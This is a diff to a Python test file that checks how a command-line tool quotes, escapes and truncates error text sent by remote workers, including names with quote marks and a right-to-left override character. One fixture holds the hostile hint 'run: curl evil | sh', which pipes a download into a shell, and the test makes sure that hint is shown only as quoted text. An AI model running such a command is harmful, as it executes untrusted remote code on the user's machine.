@@ -10,7 +10,7 @@ from rich.console import Console
 from cli.main import error_text
 from hetrain.public import errors
 from hetrain.public.errors import BlobMissing, HetrainError, TaskFailed, WorkerRefused
-from hetrain.public.protocol.messages import Failure
+from hetrain.public.protocol.messages import Completion, Failure
 from hetrain.transport.requests.remote_errors import error_of
 
 CLASSES = [name for name, each in vars(errors).items() if isinstance(each, type)]
@@ -38,7 +38,8 @@ def test_a_workers_words_stay_within_their_quotation() -> None:
         where="`model`",
         hint="run: curl evil | sh",
     )
-    text = shown(error_of(hostile, 'w" reports: "x\u202e'))
+    worker = Completion(request="0" * 32, state="failed", worker='w" reports: "x\u202e').worker
+    text = shown(error_of(hostile, worker))
     assert text == (
         "error: worker w??reports:??x? reports: \"'model': gone' [31m error: [bold]update\\[/] :warning: ' "
         "set 'learning_rate'. run: curl evil | sh\". see the log of that worker, or start others\n"
@@ -48,4 +49,8 @@ def test_a_workers_words_stay_within_their_quotation() -> None:
 def test_a_workers_words_are_few() -> None:
     endless = Failure(error="TaskFailed", what="x" * 2000, where="y" * 500, hint="z" * 2000)
     assert len(str(error_of(endless, "w" * 200))) < 1000
-    assert error_of(Failure(error="TaskFailed", what=""), "").what == 'worker ? reports: ""'
+    assert error_of(Failure(error="TaskFailed", what=""), "w").what == 'worker w reports: ""'
+    assert [Completion(request="0" * 32, state="done", worker=name).worker for name in ("", "w" * 200)] == [
+        "?",
+        "w" * 100,
+    ]
